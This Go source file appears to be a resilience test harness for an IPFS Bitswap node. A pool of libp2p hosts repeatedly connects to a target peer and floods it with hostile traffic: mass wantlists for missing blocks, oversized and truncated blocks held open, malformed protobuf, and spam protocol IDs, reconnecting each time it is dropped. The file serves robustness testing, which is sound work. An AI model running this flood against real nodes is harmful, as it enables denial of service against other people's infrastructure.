package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"time"

	bsmsg "github.com/ipfs/boxo/bitswap/message"
	pb "github.com/ipfs/boxo/bitswap/message/pb"
	"github.com/ipfs/boxo/bitswap/network/bsnet"
	blocks "github.com/ipfs/go-block-format"
	"github.com/ipfs/go-cid"
	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multihash"
)

const sha2 = multihash.SHA2_256

// evil is what foes send, made once.
type evil struct {
	wants   []byte // for 10,000 blocks that nobody has
	long    []byte // a block of 3 MiB
	garbage []byte // no protobuf
	promise []byte // the beginning of a block of 2 MiB
	greed   []byte // wants for blocks that are there
}

func newEvil(there []cid.Cid) (*evil, error) {
	wants, long, greed, promise := bsmsg.New(true), bsmsg.New(false), bsmsg.New(true), bsmsg.New(false)
	for n := range 10_000 {
		wants.AddEntry(blocks.NewBlock(fmt.Append(nil, n)).Cid(), 1, pb.Message_Wantlist_Have, true)
	}
	for _, c := range there {
		greed.AddEntry(c, 1, pb.Message_Wantlist_Block, true)
	}
	long.AddBlock(blocks.NewBlock(make([]byte, 3<<20)))
	promise.AddBlock(blocks.NewBlock(make([]byte, 2<<20)))
	e := &evil{garbage: append(binary.AppendUvarint(nil, 4000), make([]byte, 4000)...)}
	for into, msg := range map[*[]byte]bsmsg.BitSwapMessage{&e.wants: wants, &e.long: long, &e.greed: greed, &e.promise: promise} {
		var out bytes.Buffer
		if err := msg.ToNetV1(&out); err != nil {
			return nil, err
		}
		*into = out.Bytes()
	}
	e.promise = e.promise[:100_000]
	return e, nil
}

// message returns what foes of a kind send; the last kind asks for protocols.
func (e *evil) message(kind int) []byte {
	return [][]byte{e.wants, e.long, e.garbage, e.promise, e.greed, nil}[kind]
}

// attack does one of six evils until ctx ends, and reconnects when it was thrown
// out.
func (m *mob) attack(ctx context.Context, i int) {
	foe, err := libp2p.New(libp2p.ListenAddrStrings("/ip4/"+home(i)+"/tcp/0"), libp2p.DisableMetrics(), libp2p.DisableRelay(),
		libp2p.ResourceManager(&network.NullResourceManager{}))
	if err != nil {
		return
	}
	defer foe.Close()
	foe.SetStreamHandler(bsnet.ProtocolBitswap, func(s network.Stream) { // reads nothing
		<-ctx.Done()
		_ = s.Reset()
	})
	for ctx.Err() == nil {
		if foe.Connect(ctx, m.Victim) == nil {
			m.connected.Add(1)
			for ctx.Err() == nil && foe.Network().Connectedness(m.Victim.ID) == network.Connected {
				m.once(ctx, foe, i%6)
				_ = wait(ctx, 200*time.Millisecond)
			}
		}
		_ = wait(ctx, time.Second)
	}
}

func (m *mob) once(ctx context.Context, foe host.Host, kind int) {
	id := protocol.ID(bsnet.ProtocolBitswap)
	if kind == 5 {
		id = protocol.ID(fmt.Sprintf("/spam/%x/%0800d", rand.Uint64(), 0))
	}
	ctx, cancel := context.WithTimeout(network.WithNoDial(ctx, "foe"), 5*time.Second)
	defer cancel()
	m.sent.Add(1)
	s, err := foe.NewStream(ctx, m.Victim.ID, id)
	if err != nil {
		return
	}
	_ = s.SetWriteDeadline(time.Now().Add(5 * time.Second))
	n, _ := s.Write(m.evil.message(kind))
	m.bytes.Add(int64(n))
	if kind == 3 || kind == 4 {
		return // the stream stays open
	}
	_, _ = io.Copy(io.Discard, io.LimitReader(deadline(s), 1))
	_ = s.Reset()
}

// deadline lets the node take a moment to throw the foe out.
func deadline(s network.Stream) io.Reader {
	_ = s.SetReadDeadline(time.Now().Add(time.Second))
	return s
}
